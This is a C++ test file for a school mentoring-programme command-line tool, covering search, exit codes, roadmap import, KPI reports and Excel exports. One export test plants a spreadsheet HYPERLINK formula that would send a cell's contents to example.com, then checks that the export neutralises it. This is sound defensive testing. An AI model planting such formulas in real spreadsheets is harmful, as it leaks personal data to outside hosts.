#include "cli/CliRun.h"
#include "domain/AcademicYear.h"
#include "services/StatsService.h"
#include "support/TestSupport.h"
#include "support/WorkbookReadBack.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QSqlQuery>
#include <catch2/catch.hpp>

TEST_CASE("init --demo, people list with Russian search, stats")
{
    QTemporaryDir dir;
    const QString db = dir.filePath(QStringLiteral("school.sqlite"));
    const Run init = cli({QStringLiteral("--db"), db, QStringLiteral("init"), QStringLiteral("--demo")});
    INFO(init.err.toStdString());
    REQUIRE(init.exitCode == 0);
    CHECK(init.out.contains(QStringLiteral("Демонстрационная школа создана")));

    const Run stats = cli({QStringLiteral("--db"), db, QStringLiteral("stats"), QStringLiteral("--json")});
    REQUIRE(stats.exitCode == 0);
    const QJsonObject counts = QJsonDocument::fromJson(stats.out.toUtf8()).object();
    CHECK(counts.value(QLatin1String("person")).toInt() > 1000);
    CHECK(counts.value(QLatin1String("mentoring_pair")).toInt() > 0);
    CHECK(counts.contains(QLatin1String("audit_log")));

    const Run teachers = cli({QStringLiteral("--db"), db, QStringLiteral("people"), QStringLiteral("list"),
                              QStringLiteral("--category"), QStringLiteral("педагог"), QStringLiteral("--json")});
    REQUIRE(teachers.exitCode == 0);
    const QJsonArray list = QJsonDocument::fromJson(teachers.out.toUtf8()).array();
    CHECK(list.size() >= 50);
    for (const QJsonValue &v : list)
        CHECK(v.toObject().value(QLatin1String("category")).toString() == QStringLiteral("teacher"));

    // A name with ё is found by a search typed with е, in lower case.
    const QString withYo = [&] {
        for (const QJsonValue &v : QJsonDocument::fromJson(cli({QStringLiteral("--db"), db, QStringLiteral("people"),
                                                                QStringLiteral("list"), QStringLiteral("--json")})
                                                               .out.toUtf8()).array()) {
            const QString name = v.toObject().value(QLatin1String("first_name")).toString();
            if (name.contains(QChar(0x0451)))
                return name;
        }
        return QString();
    }();
    REQUIRE_FALSE(withYo.isEmpty());
    QString typed = withYo.toLower();
    typed.replace(QChar(0x0451), QChar(0x0435));
    const Run found = cli({QStringLiteral("--db"), db, QStringLiteral("people"), QStringLiteral("list"),
                           QStringLiteral("--search"), typed});
    REQUIRE(found.exitCode == 0);
    CHECK(found.out.contains(withYo));
}

TEST_CASE("exit codes: 2 for wrong usage, 1 for a user error, 0 for help")
{
    QTemporaryDir dir;
    const QString db = dir.filePath(QStringLiteral("x.sqlite"));
    CHECK(cli({}).exitCode == 2);
    CHECK(cli({QStringLiteral("--db"), db, QStringLiteral("frobnicate")}).exitCode == 2);
    CHECK(cli({QStringLiteral("--bogus")}).exitCode == 2);
    CHECK(cli({QStringLiteral("--db"), db, QStringLiteral("people")}).exitCode == 2);
    CHECK(cli({QStringLiteral("--db"), db, QStringLiteral("stats"), QStringLiteral("--nope")}).exitCode == 2);
    CHECK(cli({QStringLiteral("--db"), db, QStringLiteral("init"), QStringLiteral("--seed"), QStringLiteral("abc")}).exitCode == 2);

    const Run missing = cli({QStringLiteral("--db"), db, QStringLiteral("stats")});
    CHECK(missing.exitCode == 1);
    CHECK(missing.err.contains(QStringLiteral("не найден")));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("init")}).exitCode == 0);
    const Run badCategory = cli({QStringLiteral("--db"), db, QStringLiteral("people"), QStringLiteral("list"),
                                 QStringLiteral("--category"), QStringLiteral("космонавт")});
    CHECK(badCategory.exitCode == 1);
    CHECK(badCategory.err.contains(QStringLiteral("космонавт")));

    for (const char *command : {"init", "people", "stats"}) {
        const Run help = cli({QString::fromLatin1(command), QStringLiteral("--help")});
        CHECK(help.exitCode == 0);
        CHECK(help.out.contains(QStringLiteral("Использование")));
    }
    CHECK(cli({QStringLiteral("--help")}).exitCode == 0);
}

TEST_CASE("the CLI refuses a database of a newer schema with exit code 1")
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("new.sqlite"));
    REQUIRE(cli({QStringLiteral("--db"), path, QStringLiteral("init")}).exitCode == 0);
    {
        auto db = Database::open(path);
        REQUIRE(db.ok());
        QSqlQuery q(db.value()->connection());
        REQUIRE(q.exec(QStringLiteral("INSERT INTO schema_version VALUES (500, '2030-01-01')")));
    }
    const Run r = cli({QStringLiteral("--db"), path, QStringLiteral("stats")});
    CHECK(r.exitCode == 1);
    CHECK(r.err.contains(QStringLiteral("более новой версией")));
}

TEST_CASE("roadmap import --columns maps a table whose headers the import does not know")
{
    QTemporaryDir dir;
    const QString db = dir.filePath(QStringLiteral("school.sqlite"));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("init")}).exitCode == 0);
    const QString file = QStringLiteral(KURATOR_TEST_DATA "/roadmaps/unnamed_columns.csv");
    auto roadmap = [&](QStringList args) {
        return cli(QStringList{QStringLiteral("--db"), db, QStringLiteral("roadmap"), QStringLiteral("import"), file,
                               QStringLiteral("--year"), QStringLiteral("2024")} + args);
    };
    const Run unmapped = roadmap({});
    CHECK(unmapped.exitCode == 1);
    CHECK(unmapped.err.contains(QStringLiteral("не найден столбец с мероприятиями")));
    CHECK(roadmap({QStringLiteral("--columns"), QStringLiteral("activity=0")}).exitCode == 2);

    const QString columns = QStringLiteral("header=2,activity=1,deadline=2,owners=3");
    const Run preview = roadmap({QStringLiteral("--columns"), columns, QStringLiteral("--dry-run"), QStringLiteral("--json")});
    INFO(preview.err.toStdString());
    REQUIRE(preview.exitCode == 0);
    const QJsonArray items = QJsonDocument::fromJson(preview.out.toUtf8()).array();
    REQUIRE(items.size() == 3);
    CHECK(items[1].toObject().value(QLatin1String("owners")).toString() == QStringLiteral("куратор, классные руководители"));
    const Run imported = roadmap({QStringLiteral("--columns"), columns});
    REQUIRE(imported.exitCode == 0);
    CHECK(imported.out.contains(QStringLiteral("мероприятий 3")));
}

TEST_CASE("roadmap import, list and templates from the command line")
{
    QTemporaryDir dir;
    const QString db = dir.filePath(QStringLiteral("school.sqlite"));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("init")}).exitCode == 0);
    const QString seed = QStringLiteral(KURATOR_TEST_DATA "/seeds/002_d8387d3764a5f919.txt");
    auto roadmap = [&](QStringList args) {
        return cli(QStringList{QStringLiteral("--db"), db, QStringLiteral("roadmap")} + args);
    };

    const Run imported = roadmap({QStringLiteral("import"), seed, QStringLiteral("--year"), QStringLiteral("2023")});
    INFO(imported.err.toStdString());
    REQUIRE(imported.exitCode == 0);
    CHECK(imported.out.contains(QStringLiteral("Дорожная карта 2023–2024")));

    const Run listed = roadmap({QStringLiteral("list"), QStringLiteral("--year"), QStringLiteral("2023"), QStringLiteral("--json")});
    REQUIRE(listed.exitCode == 0);
    const QJsonArray items = QJsonDocument::fromJson(listed.out.toUtf8()).array();
    CHECK(items.size() >= 30);
    // Every activity of 2023–2024 is past by now and none is marked done: all are overdue.
    const Run overdue = roadmap({QStringLiteral("list"), QStringLiteral("--year"), QStringLiteral("2023"),
                                 QStringLiteral("--overdue"), QStringLiteral("--json")});
    const QJsonArray late = QJsonDocument::fromJson(overdue.out.toUtf8()).array();
    CHECK(late.size() > 20);
    for (const QJsonValue &v : late)
        CHECK(v.toObject().value(QLatin1String("overdue")).toBool());

    CHECK(roadmap({QStringLiteral("templates")}).out.contains(QStringLiteral("seven_stages")));
    REQUIRE(roadmap({QStringLiteral("template"), QStringLiteral("school_33"), QStringLiteral("--year"), QStringLiteral("2025")})
                .exitCode == 0);
    CHECK(roadmap({QStringLiteral("template"), QStringLiteral("нет"), QStringLiteral("--year"), QStringLiteral("2025")})
              .exitCode == 1);
    CHECK(roadmap({QStringLiteral("import"), dir.filePath(QStringLiteral("нет.csv"))}).exitCode == 1);
    CHECK(roadmap({QStringLiteral("list"), QStringLiteral("--year"), QStringLiteral("двадцать")}).exitCode == 2);
    CHECK(roadmap({QStringLiteral("fly")}).exitCode == 2);
    CHECK(roadmap({QStringLiteral("--help")}).exitCode == 0);
}

TEST_CASE("kpi report, targets and contingent from the command line")
{
    QTemporaryDir dir;
    const QString db = dir.filePath(QStringLiteral("school.sqlite"));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("init"), QStringLiteral("--demo")}).exitCode == 0);
    auto kpi = [&](QStringList args) { return cli(QStringList{QStringLiteral("--db"), db, QStringLiteral("kpi")} + args); };
    const QString year = QString::number(AcademicYear::containing(QDate::currentDate()).startYear());
    REQUIRE(kpi({QStringLiteral("target"), QStringLiteral("teachers_mentors"), QStringLiteral("30"), QStringLiteral("--year"), year})
                .exitCode == 0);
    const Run report = kpi({QStringLiteral("--year"), year, QStringLiteral("--json")});
    REQUIRE(report.exitCode == 0);
    const QJsonArray rows = QJsonDocument::fromJson(report.out.toUtf8()).array();
    REQUIRE(rows.size() == 10);
    for (const QJsonValue &v : rows) {
        const QJsonObject o = v.toObject();
        INFO(o.value(QLatin1String("code")).toString().toStdString());
        CHECK(o.value(QLatin1String("numerator")).toInt() <= o.value(QLatin1String("denominator")).toInt());
        if (o.value(QLatin1String("denominator")).toInt() == 0)
            CHECK(o.value(QLatin1String("percent")).isNull());
        if (o.value(QLatin1String("code")).toString() == QLatin1String("teachers_mentors"))
            CHECK(o.value(QLatin1String("target")).toDouble() == 30.0);
    }
    CHECK(kpi({QStringLiteral("contingent"), QStringLiteral("пингвины"), QStringLiteral("3")}).exitCode == 1);
    CHECK(kpi({QStringLiteral("target"), QStringLiteral("consents"), QStringLiteral("сто")}).exitCode == 2);
    CHECK(kpi({QStringLiteral("--from"), QStringLiteral("31.02.2025"), QStringLiteral("--to"), QStringLiteral("01.03.2025")})
              .exitCode == 2);
    CHECK(kpi({QStringLiteral("--from"), QStringLiteral("01.09.2025"), QStringLiteral("--to"), QStringLiteral("30.11.2025")})
              .exitCode == 0);
}

TEST_CASE("the registries, KPI and roadmap reports are real Excel workbooks")
{
    QTemporaryDir dir;
    const QString db = dir.filePath(QStringLiteral("school.sqlite"));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("init"), QStringLiteral("--demo")}).exitCode == 0);
    const QString year = QString::number(AcademicYear::containing(QDate::currentDate()).startYear());
    const QString kpiFile = dir.filePath(QStringLiteral("показатели.xlsx"));
    const Run kpi = cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("kpi"), QStringLiteral("--year"),
                         year, QStringLiteral("--out"), kpiFile});
    INFO(kpi.err.toStdString());
    REQUIRE(kpi.exitCode == 0);

    const QJsonArray kpiBook = readBack(kpiFile);
    REQUIRE(kpiBook.size() == 2);
    const QJsonObject sheet = kpiBook.at(0).toObject();
    CHECK(sheet.value(QLatin1String("name")).toString().startsWith(QStringLiteral("Показатели ")));
    CHECK(sheet.value(QLatin1String("freeze")).toString() == QStringLiteral("A4"));
    CHECK(sheet.value(QLatin1String("filter")).toString() == QStringLiteral("A3:G13"));
    CHECK(sheet.value(QLatin1String("landscape")).toBool());
    CHECK(sheet.value(QLatin1String("fit_to_page")).toBool()); // one page wide, as many long as needed
    CHECK(sheet.value(QLatin1String("fit_width")).toInt() == 1);
    CHECK(sheet.value(QLatin1String("fit_height")).toInt() == 0);
    CHECK(sheet.value(QLatin1String("repeat_rows")).toString().contains(QStringLiteral("3")));
    CHECK(sheet.value(QLatin1String("charts")).toInt() == 1);
    CHECK(cellAt(sheet, 3, 1).value(QLatin1String("bold")).toBool());
    CHECK(cellAt(sheet, 3, 4).value(QLatin1String("v")).toString() == QStringLiteral("Факт"));
    // Counts are numbers, shares are percentages of a fraction.
    const QJsonObject numerator = cellAt(sheet, 4, 2), actual = cellAt(sheet, 4, 4), target = cellAt(sheet, 4, 5);
    CHECK(numerator.value(QLatin1String("t")).toString() == QStringLiteral("int"));
    CHECK(actual.value(QLatin1String("t")).toString() == QStringLiteral("float"));
    CHECK(actual.value(QLatin1String("f")).toString() == QStringLiteral("0.0%"));
    CHECK(actual.value(QLatin1String("v")).toDouble() == Approx(double(numerator.value(QLatin1String("v")).toInt())
                                                                 / cellAt(sheet, 4, 3).value(QLatin1String("v")).toInt()));
    CHECK(target.value(QLatin1String("v")).toDouble() == Approx(0.2)); // the demo school's target, 20 %

    const QString roadmapFile = dir.filePath(QStringLiteral("карта.xlsx"));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("roadmap"), QStringLiteral("--year"),
                 year, QStringLiteral("--out"), roadmapFile})
                .exitCode == 0);
    const QJsonArray roadmapBook = readBack(roadmapFile);
    REQUIRE(roadmapBook.size() == 3);
    const QJsonObject items = roadmapBook.at(0).toObject();
    CHECK(items.value(QLatin1String("filter")).toString() == QStringLiteral("A3:L19"));
    const QJsonObject start = cellAt(items, 4, 5);
    CHECK(start.value(QLatin1String("t")).toString() == QStringLiteral("datetime"));
    CHECK(start.value(QLatin1String("f")).toString() == QStringLiteral("dd.mm.yyyy"));
    CHECK(start.value(QLatin1String("v")).toString() == QStringLiteral("%1-09-01").arg(year));
    CHECK(roadmapBook.at(1).toObject().value(QLatin1String("name")).toString() == QStringLiteral("По разделам"));
    CHECK(roadmapBook.at(2).toObject().value(QLatin1String("name")).toString() == QStringLiteral("По ответственным"));

    // The banks in the column sets of domain.md; a request written as a formula stays text.
    const QString formula = QStringLiteral("=HYPERLINK(\"http://example.com/?q=\"&B4,\"Подробнее\")");
    {
        auto opened = Database::open(db);
        REQUIRE(opened.ok());
        QSqlQuery q(opened.value()->connection());
        q.prepare(QStringLiteral("UPDATE mentee_profile SET request = ? WHERE id = (SELECT min(id) FROM mentee_profile)"));
        q.addBindValue(formula);
        REQUIRE(q.exec());
    }
    const QString menteesFile = dir.filePath(QStringLiteral("наставляемые (ПДн).xlsx"));
    const Run mentees = cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("mentees"), QStringLiteral("--year"),
                             year, QStringLiteral("--out"), dir.filePath(QStringLiteral("наставляемые.xlsx"))});
    REQUIRE(mentees.exitCode == 0);
    CHECK(mentees.out.contains(menteesFile)); // the name says the file holds personal data
    CHECK(mentees.err.contains(QStringLiteral("персональные данные")));
    CHECK((QFileInfo(menteesFile).permissions() & (QFile::ReadGroup | QFile::ReadOther)) == 0);
    CHECK(QDir(dir.path()).entryList(QDir::Hidden | QDir::Files).filter(QStringLiteral(".part")).isEmpty());
    const QJsonObject bank = readBack(menteesFile).at(0).toObject();
    int neutralised = 0;
    for (const QJsonValue &row : bank.value(QLatin1String("rows")).toArray())
        for (const QJsonValue &cell : row.toArray()) {
            CHECK(cell.toObject().value(QLatin1String("v")).toString() != formula);
            neutralised += cell.toObject().value(QLatin1String("v")).toString() == QLatin1Char('\'') + formula ? 1 : 0;
        }
    CHECK(neutralised == 1);
    CHECK(bank.value(QLatin1String("name")).toString() == QStringLiteral("База наставляемых"));
    QStringList header;
    for (const QJsonValue &c : bank.value(QLatin1String("rows")).toArray().at(2).toArray())
        header << c.toObject().value(QLatin1String("v")).toString();
    CHECK(header == QStringList{QStringLiteral("№ п/п"), QStringLiteral("ФИО наставляемого"),
                                QStringLiteral("Контактные данные (или законного представителя)"),
                                QStringLiteral("Возраст / класс"), QStringLiteral("Ключевой запрос"),
                                QStringLiteral("Дата вхождения в программу"), QStringLiteral("ФИО наставника"),
                                QStringLiteral("Место работы / учёбы наставника"), QStringLiteral("Форма наставничества"),
                                QStringLiteral("Место реализации программы"), QStringLiteral("Дата завершения программы"),
                                QStringLiteral("Результаты программы"), QStringLiteral("Ссылка на кейс / отзыв")});
    const int bankRows = bank.value(QLatin1String("rows")).toArray().size() - 3;
    CHECK(bankRows > 50);
    CHECK(bank.value(QLatin1String("filter")).toString() == QStringLiteral("A3:M%1").arg(bankRows + 3));
    CHECK(cellAt(bank, 4, 1).value(QLatin1String("v")).toInt() == 1);
    CHECK(cellAt(bank, 4, 6).value(QLatin1String("t")).toString() == QStringLiteral("datetime"));
    // A minor is reached through a legal representative.
    int throughRepresentative = 0;
    for (int r = 4; r <= bankRows + 3; ++r)
        throughRepresentative += cellAt(bank, r, 3).value(QLatin1String("v")).toString().startsWith(QStringLiteral("представитель")) ? 1 : 0;
    CHECK(throughRepresentative > 0);
    const QString mentorsFile = dir.filePath(QStringLiteral("наставники-персональные-данные.xlsx")); // kept as named
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("mentors"), QStringLiteral("--year"),
                 year, QStringLiteral("--out"), mentorsFile})
                .exitCode == 0);
    CHECK(readBack(mentorsFile).at(0).toObject().value(QLatin1String("name")).toString() == QStringLiteral("База наставников"));

    CHECK(cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("kpi"), QStringLiteral("--out"),
               dir.filePath(QStringLiteral("отчёт.csv"))}).exitCode == 2);
    CHECK(cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("kpi"), QStringLiteral("--out"),
               QStringLiteral("/nonexistent/dir/x.xlsx")}).exitCode == 1);
}

TEST_CASE("statistics of participants: the shipped template, a template from a file and a period, as the app counts them")
{
    QTemporaryDir dir;
    const QString db = dir.filePath(QStringLiteral("school.sqlite"));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("init"), QStringLiteral("--demo")}).exitCode == 0);
    const int startYear = AcademicYear::containing(QDate::currentDate()).startYear();
    const QString year = QString::number(startYear);
    auto exportStats = [&](const QString &file, const QStringList &more) {
        const Run run = cli(QStringList{QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("stats"), QStringLiteral("--year"),
                                        year, QStringLiteral("--out"), file} + more);
        INFO(run.err.toStdString());
        REQUIRE(run.exitCode == 0);
        return readBack(file).at(0).toObject();
    };

    // The shipped template: the figures of the sheet are those the service counts.
    const QJsonObject shipped = exportStats(dir.filePath(QStringLiteral("статистика.xlsx")), {});
    CHECK(shipped.value(QLatin1String("name")).toString() == QStringLiteral("Статистика"));
    CHECK(cellAt(shipped, 3, 2).value(QLatin1String("v")).toString() == QStringLiteral("Количество"));
    CHECK(cellAt(shipped, 4, 1).value(QLatin1String("v")).toString() == QStringLiteral("1. Наставляемые"));
    auto opened = Database::open(db);
    REQUIRE(opened.ok());
    const auto figures = StatsService(opened.value()).compute(startYear);
    REQUIRE(figures.ok());
    opened.value().reset();
    REQUIRE(figures->size() > 30);
    for (int i = 0; i < figures->size(); ++i) {
        const StatsTemplate::Figure &f = figures->at(i);
        INFO(f.label.toStdString());
        CHECK(cellAt(shipped, 4 + i, 1).value(QLatin1String("v")).toString() == f.label);
        if (!f.section)
            CHECK(cellAt(shipped, 4 + i, 2).value(QLatin1String("v")).toInt() == f.count);
        if (f.share && f.percent) {
            CHECK(cellAt(shipped, 4 + i, 4).value(QLatin1String("v")).toDouble() == Approx(*f.percent / 100));
            CHECK(cellAt(shipped, 4 + i, 4).value(QLatin1String("f")).toString().contains(QLatin1Char('%')));
        }
    }
    CHECK(cellAt(shipped, 5, 2).value(QLatin1String("v")).toInt() > 0); // mentees this year

    // A template of the curator's, from a file, for the first two months: no rebuild.
    const QString custom = dir.filePath(QStringLiteral("форма.json"));
    QFile file(custom);
    REQUIRE(file.open(QIODevice::WriteOnly));
    file.write(R"({"title": "Форма муниципалитета", "rows": [
        {"id": "all", "label": "Участники осенью", "count": "participants"},
        {"id": "mentors", "label": "Наставники осенью", "count": "participants", "role": "mentor"},
        {"label": "Доля наставников", "share": ["mentors", "all"]}]})");
    file.close();
    const QJsonObject autumn = exportStats(dir.filePath(QStringLiteral("осень.xlsx")),
                                           {QStringLiteral("--template"), custom, QStringLiteral("--from"), QStringLiteral("01.09.%1").arg(year),
                                            QStringLiteral("--to"), QStringLiteral("31.10.%1").arg(year)});
    CHECK(cellAt(autumn, 1, 1).value(QLatin1String("v")).toString().startsWith(QStringLiteral("Форма муниципалитета за период с 01.09.")));
    CHECK(cellAt(autumn, 4, 1).value(QLatin1String("v")).toString() == QStringLiteral("Участники осенью"));
    const int all = cellAt(autumn, 4, 2).value(QLatin1String("v")).toInt(), mentors = cellAt(autumn, 5, 2).value(QLatin1String("v")).toInt();
    CHECK(all > mentors);
    CHECK(mentors > 0);
    CHECK(cellAt(autumn, 6, 3).value(QLatin1String("v")).toInt() == all);
    CHECK(cellAt(autumn, 6, 4).value(QLatin1String("v")).toDouble() == Approx(double(mentors) / all));

    // A template with a mistake is refused naming the row; a half period is a usage error.
    REQUIRE(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    file.write(R"({"rows": [{"id": "a", "label": "a", "count": "participants"}, {"label": "b", "share": ["a", "nowhere"]}]})");
    file.close();
    const Run bad = cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("stats"), QStringLiteral("--out"),
                         dir.filePath(QStringLiteral("x.xlsx")), QStringLiteral("--template"), custom});
    CHECK(bad.exitCode == 1);
    CHECK(bad.err.contains(QStringLiteral("Строка 2 шаблона: доля ссылается на строку «nowhere»")));
    CHECK(cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("stats"), QStringLiteral("--out"),
               dir.filePath(QStringLiteral("x.xlsx")), QStringLiteral("--from"), QStringLiteral("01.09.2024")}).exitCode == 2);
}

TEST_CASE("init --school creates the curator's own school with its contingent")
{
    QTemporaryDir dir;
    const QString db = dir.filePath(QStringLiteral("school.sqlite"));
    const auto init = [&](QStringList extra) {
        return cli(QStringList{QStringLiteral("--db"), db, QStringLiteral("init")} + extra);
    };
    CHECK(init({QStringLiteral("--year"), QStringLiteral("2026")}).exitCode == 2); // --year without --school
    CHECK(init({QStringLiteral("--school"), QStringLiteral("Лицей"), QStringLiteral("--demo")}).exitCode == 2);
    CHECK(init({QStringLiteral("--school"), QStringLiteral("Лицей"), QStringLiteral("--contingent"), QStringLiteral("teachers")})
              .exitCode == 2);
    const Run impossible = init({QStringLiteral("--school"), QStringLiteral("Лицей"), QStringLiteral("--contingent"),
                                 QStringLiteral("teachers=10"), QStringLiteral("--contingent"), QStringLiteral("young_teachers=11")});
    CHECK(impossible.exitCode == 1);
    CHECK(impossible.err.contains(QStringLiteral("Молодых педагогов (11) больше, чем всех педагогов (10).")));
    CHECK_FALSE(QFileInfo::exists(db)); // refused before the file is made

    const Run made = init({QStringLiteral("--school"), QStringLiteral("МАОУ «Лицей № 3»"), QStringLiteral("--year"),
                           QStringLiteral("2026"), QStringLiteral("--contingent"), QStringLiteral("pupils_10_19=640")});
    INFO(made.err.toStdString());
    REQUIRE(made.exitCode == 0);
    CHECK(made.out.contains(QStringLiteral("Школа: МАОУ «Лицей № 3»; учебный год 2026–2027.")));
    const Run kpi = cli({QStringLiteral("--db"), db, QStringLiteral("kpi"), QStringLiteral("--year"), QStringLiteral("2026"),
                         QStringLiteral("--json")});
    REQUIRE(kpi.exitCode == 0);
    const QJsonDocument rows = QJsonDocument::fromJson(kpi.out.toUtf8());
    REQUIRE(rows.isArray());
    int fromContingent = 0;
    for (const QJsonValue row : rows.array())
        if (row[QStringLiteral("denominator_from_contingent")].toBool()) {
            CHECK(row[QStringLiteral("denominator")].toInt() == 640);
            ++fromContingent;
        }
    CHECK(fromContingent > 0);
}

TEST_CASE("kpi definitions, rename and counting from the command line")
{
    QTemporaryDir dir;
    const QString db = dir.filePath(QStringLiteral("school.sqlite"));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("init")}).exitCode == 0);
    auto kpi = [&](QStringList args) { return cli(QStringList{QStringLiteral("--db"), db, QStringLiteral("kpi")} + args); };

    REQUIRE(kpi({QStringLiteral("rename"), QStringLiteral("consents"), QStringLiteral("Согласия родителей")}).exitCode == 0);
    CHECK(kpi({QStringLiteral("rename"), QStringLiteral("penguins"), QStringLiteral("Пингвины")}).exitCode == 1);
    const Run listed = kpi({QStringLiteral("definitions"), QStringLiteral("--json")});
    REQUIRE(listed.exitCode == 0);
    bool renamed = false;
    for (const QJsonValue d : QJsonDocument::fromJson(listed.out.toUtf8()).array())
        renamed |= d[QStringLiteral("code")].toString() == QStringLiteral("consents") &&
                   d[QStringLiteral("name")].toString() == QStringLiteral("Согласия родителей");
    CHECK(renamed);

    CHECK(kpi({QStringLiteral("counting")}).out.contains(QStringLiteral("10–19 лет")));
    const Run regional = kpi({QStringLiteral("counting"), QStringLiteral("--pupil-ages"), QStringLiteral("15-19"),
                              QStringLiteral("--young-age"), QStringLiteral("35")});
    REQUIRE(regional.exitCode == 0);
    CHECK(regional.out.contains(QStringLiteral("15–19 лет")));
    CHECK(regional.out.contains(QStringLiteral("моложе 35 лет")));
    CHECK(kpi({QStringLiteral("counting"), QStringLiteral("--pupil-ages"), QStringLiteral("19-15")}).exitCode == 1);
    CHECK(kpi({QStringLiteral("counting"), QStringLiteral("--pupil-ages"), QStringLiteral("пятнадцать")}).exitCode == 2);
    CHECK(kpi({QStringLiteral("counting")}).out.contains(QStringLiteral("15–19 лет"))); // the refused change left nothing
}
